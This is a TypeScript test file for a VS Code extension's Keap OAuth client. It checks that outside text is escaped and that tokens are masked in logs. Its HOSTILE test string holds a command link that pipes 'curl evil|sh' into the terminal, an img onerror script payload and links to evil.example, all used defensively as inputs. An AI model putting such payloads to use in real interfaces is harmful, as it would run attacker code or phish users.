import assert from 'node:assert/strict';
import { classifyKeapError, KeapError } from '../../src/keap/errors';
import { checkUserInfo } from '../../src/keap/tokenCheck';
import { KeapTokenClient } from '../../src/keap/tokenClient';
import { outsideText } from '../../src/outsideText';
import { maskCredentialEchoes, SecretMask } from '../../src/secretMask';
import { outcomeOf, parseLedger } from '../../src/session/refreshSchedule';
import { codeExchangeMessage } from '../../src/signin/signInService';
import { DEMO_CLIENT, FakeKeap, startFakeKeap } from '../fake-keap/server';
import { authorizationCode } from '../support/fakeAuthorize';
import { recordingLogger } from '../support/signInService';

/**
 * Issue 17.2 (case S8): words from outside are text, never markup. Each place that shows outside
 * text gets a link, an image and HTML, and must show none of them as such.
 */

/** A link to a command with arguments, an image, HTML, a bare URL and theme-icon syntax: what a hostile answer would hold. */
const HOSTILE =
  'Session needs verification. [Verify](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) ' +
  '![logo](https://evil.example/track.png) <img src=x onerror=alert(1)> <a href="https://evil.example">here</a> ' +
  'https://evil.example/login www.evil.example $(zap) **bold** `code` # heading';

/**
 * A real CommonMark renderer at its most permissive (HTML on, bare URLs linked): what escaped text
 * must survive. markdown-it comes with @vscode/vsce (package-lock.json); it has no types of its own here.
 */
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it') as new (o: object) => { renderInline(s: string): string };
const md = new MarkdownIt({ html: true, linkify: true });

function assertInertMarkdown(markdown: string): void {
  const html = md.renderInline(markdown);
  assert.doesNotMatch(html, /<a[\s>]/i, `no link in ${html}`);
  assert.doesNotMatch(html, /<img[\s>]/i, `no image in ${html}`);
  assert.doesNotMatch(html, /<(strong|em|code|h\d)>/i, `no emphasis, code or heading in ${html}`);
  assert.doesNotMatch(html, /<(?!\/?p>)[a-z]/i, `no raw HTML in ${html}`);
  assert.doesNotMatch(markdown, /(^|[^\\])\$\(/, 'no theme icon');
}

/**
 * The one construct VS Code's notification turns into a clickable link (src/vs/base/common/linkedText.ts,
 * described in our words): "[", a label, "](", then an http(s), command or file target, then ")".
 */
const NOTIFICATION_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i;

function assertInertMessage(message: string): void {
  assert.doesNotMatch(message, NOTIFICATION_LINK, `no notification link in ${message}`);
  assert.doesNotMatch(message, /[\r\n\u202e]/, 'one line, no bidi override');
}

describe('issue 17.2: words from outside are text, never markup (S8)', () => {
  describe('src/outsideText: the one helper', () => {
    it('markdown: a link, an image, HTML, a bare URL, an icon and emphasis all render as plain text, and the words stay readable', () => {
      const escaped = outsideText(HOSTILE, 'markdown', 2000);
      assertInertMarkdown(escaped);
      const shown = md.renderInline(escaped);
      assert.match(shown, /Verify/);
      assert.match(shown, /evil\.example\/login/);
    });

    it('message: no link can form, and ordinary words (invalid_grant, "(429)") are left as written', () => {
      assertInertMessage(outsideText(HOSTILE, 'message', 2000));
      assert.equal(outsideText('Keap said (429): invalid_grant', 'message'), 'Keap said (429): invalid_grant');
    });

    it('every form is one bounded line without bidi overrides', () => {
      const long = `a\nb\u202e${'x'.repeat(5000)}`;
      for (const t of ['markdown', 'message', 'plain'] as const) {
        const out = outsideText(long, t, 300);
        assert.ok(out.length <= 302, `${t}: ${out.length}`);
        assert.doesNotMatch(out, /[\n\u202e]/);
      }
    });

    it('masks registered secrets and credential echoes in every form (S12)', () => {
      const mask = new SecretMask();
      mask.add('live-refresh-token-123');
      for (const t of ['markdown', 'message', 'plain'] as const) {
        const out = outsideText('grant_type=refresh_token&refresh_token=echoed-secret-999 and live-refresh-token-123', t, 500, mask);
        assert.doesNotMatch(out, /echoed-secret-999|live-refresh-token-123/, t);
      }
    });
  });

  describe('each place that shows outside text', () => {
    it("a token endpoint's error (notification, tooltip, tree): the KeapError message holds Keap's words as plain text", () => {
      for (const status of [400, 429]) {
        const e = classifyKeapError(status, JSON.stringify({ error: 'invalid_request', error_description: HOSTILE }), 'refresh_token');
        assert.match(e.message, /Verify/, 'the words are kept');
        assertInertMessage(outsideText(e.message, 'message', 1000));
        assertInertMarkdown(outsideText(e.message, 'markdown', 1000));
      }
    });

    it('an HTML error body (a gateway page): its first bytes are plain text in the message', () => {
      const e = classifyKeapError(502, `<html><body>${HOSTILE}</body></html>`, 'refresh_token');
      assertInertMessage(outsideText(e.message, 'message', 1000));
      assertInertMarkdown(outsideText(e.message, 'markdown', 1000));
    });

    it("the sign-in's code exchange failure (a notification)", () => {
      const e = classifyKeapError(400, JSON.stringify({ error: 'invalid_grant', error_description: HOSTILE }), 'authorization_code');
      const message = codeExchangeMessage(e);
      assert.match(message, /Verify/);
      assertInertMessage(outsideText(message, 'message', 1000));
    });

    it('a paused refresh as the ledger file, the tooltip and the tree keep it: bounded, masked, inert', () => {
      const e = new KeapError('bad-configuration', `Keap refused: ${HOSTILE} refresh_token=echoed-secret-999 ${'y'.repeat(100_000)}`);
      const outcome = outcomeOf(e);
      assert.ok(outcome.kind === 'refusal');
      assert.ok(outcome.message.length <= 601, `bounded: ${outcome.message.length}`);
      assert.doesNotMatch(outcome.message, /echoed-secret-999/);
      assertInertMarkdown(outsideText(outcome.message, 'markdown', 1000));
      // A ledger written by an older version with a huge message reads back bounded.
      const ledger = parseLedger(JSON.stringify({ requests: [], attempt: 0, paused: { cause: 'bad-configuration', message: 'z'.repeat(1_000_000), resume: 'check-settings', at: 1, issuedAt: 1 } }));
      assert.ok(ledger.paused && ledger.paused.message.length <= 601);
    });

    describe('with the fake Keap server', () => {
      let fake: FakeKeap;
      beforeEach(async () => (fake = await startFakeKeap()));
      afterEach(() => fake.close());

      it("userinfo's name and email (tooltip, tree row): one bounded line, inert once rendered", async () => {
        const client = new KeapTokenClient({ endpoints: () => fake, timeoutMs: () => 5000 });
        fake.addFault({ path: '/crm/rest/v1/oauth/connect/userinfo', status: 200, body: JSON.stringify({ preferred_name: `${HOSTILE}\n${'n'.repeat(10_000)}`, email: '[x](command:evil)@example.com' }) });
        const who = await client.userInfo('any-access-token');
        assert.ok(who.name && who.name.length <= 201 && !who.name.includes('\n'));
        assertInertMarkdown(outsideText([who.name, who.email].join(' · '), 'markdown', 1000));
        assertInertMessage(outsideText(who.email, 'message'));
      });

      it("Test Token's answer (a notification and the tree row's tooltip)", async () => {
        fake.addFault({ path: '/crm/rest/v1/oauth/connect/userinfo', status: 400, body: JSON.stringify({ message: HOSTILE }) });
        const check = await checkUserInfo('any-access-token', { url: `${fake.apiBaseUrl}/v1/oauth/connect/userinfo`, timeoutMs: 5000 });
        assert.ok(check.error);
        assertInertMessage(outsideText(check.error.message, 'message', 1000));
      });

      it('the log: a refresh whose error page echoes the request shows neither the sent refresh token nor the client secret (S12)', async () => {
        const log = recordingLogger();
        const mask = new SecretMask();
        const logged: string[] = [];
        // The log as the extension's RedactingLogger writes it: every message through the mask the client registers into.
        const redacting = { ...log, addSecret: (v: string | undefined) => mask.add(v), warn: (m: string) => logged.push(mask.mask(m)), info: (m: string) => logged.push(mask.mask(m)) };
        const client = new KeapTokenClient({ endpoints: () => fake, timeoutMs: () => 5000, log: redacting });
        const refreshToken = 'rt-live-0123456789abcdef';
        fake.addFault({ status: 400, body: `<html><body>Bad request: grant_type=refresh_token&refresh_token=${refreshToken} client_secret=${DEMO_CLIENT.clientSecret}</body></html>`, contentType: 'text/html' });
        const err = await client.refresh({ ...DEMO_CLIENT, refreshToken }).then(
          () => assert.fail('should fail'),
          (e: unknown) => e as KeapError,
        );
        for (const text of [err.message, err.details.bodySnippet ?? '', ...logged]) {
          assert.ok(!text.includes(refreshToken), `no refresh token in: ${text}`);
          assert.ok(!text.includes(DEMO_CLIENT.clientSecret), `no client secret in: ${text}`);
        }
        assert.ok(mask.has(refreshToken), 'the sent refresh token was registered before sending');
      });

      it('a new pair is registered for masking before anything is logged about the answer (S12)', async () => {
        const mask = new SecretMask();
        const order: string[] = [];
        const log = { ...recordingLogger(), addSecret: (v: string | undefined) => (mask.add(v), order.push('add')), warn: (m: string) => order.push(`warn:${mask.mask(m)}`), info: (m: string) => order.push(`info:${mask.mask(m)}`) };
        // An answer without expires_in makes the client warn about the answer: the pair must be masked by then.
        fake.setExpiresIn(0);
        const client = new KeapTokenClient({ endpoints: () => fake, timeoutMs: () => 5000, log });
        const redirectUri = 'http://localhost:9/callback';
        const set = await client.exchangeCode({ ...DEMO_CLIENT, code: await authorizationCode(fake, redirectUri), redirectUri });
        assert.ok(mask.has(set.accessToken) && mask.has(set.refreshToken));
        const firstWarn = order.findIndex(o => o.startsWith('warn:'));
        const adds = order.map((o, i) => (o === 'add' ? i : -1)).filter(i => i >= 0);
        assert.ok(firstWarn > Math.max(...adds), `registered before the warning: ${order.join(' | ')}`);
      });
    });
  });

  describe('src/secretMask: credential echoes', () => {
    it('masks form, query, JSON, header and bearer spellings, and leaves ordinary words', () => {
      const text =
        'grant_type=refresh_token&refresh_token=RT123456789&client_secret=CS123456789 ' +
        '{"access_token": "AT123456789", "code":"429"} Authorization: Bearer AB123456789 ?code=CODE123456789&state=s';
      const out = maskCredentialEchoes(text);
      for (const v of ['RT123456789', 'CS123456789', 'AT123456789', 'AB123456789', 'CODE123456789']) assert.ok(!out.includes(v), `${v} masked in ${out}`);
      assert.match(out, /grant_type=refresh_token/);
      assert.match(out, /"code":"429"/, "Keap's quota answer keeps its code");
      assert.equal(maskCredentialEchoes('Missing parameter: refresh_token'), 'Missing parameter: refresh_token');
    });
  });
});

describe('outside text as a label (QuickPick, progress title, tree item, status bar): no theme icon forms', () => {
  it('every $( is escaped as VS Code\'s escapeIcons does, an escaped one is kept, and the text is one bounded line', () => {
    assert.equal(outsideText('$(pass-filled) production', 'label'), '\\$(pass-filled) production');
    assert.equal(outsideText('a $(zap) b $(flame~spin)', 'label'), 'a \\$(zap) b \\$(flame~spin)');
    assert.equal(outsideText('already \\$(zap)', 'label'), 'already \\$(zap)');
    assert.equal(outsideText('Ab Co\n$(warning) signed out', 'label'), 'Ab Co \\$(warning) signed out');
    assert.equal(outsideText('x'.repeat(100), 'label', 60), 'x'.repeat(60) + '…');
    assert.equal(outsideText('price $5 (USD)', 'label'), 'price $5 (USD)');
    assert.equal(outsideText(undefined, 'label'), '');
    // No unescaped icon syntax is left in the hostile sample.
    assert.ok(!/(^|[^\\])\$\(/.test(outsideText(HOSTILE, 'label', 1000)));
  });
});
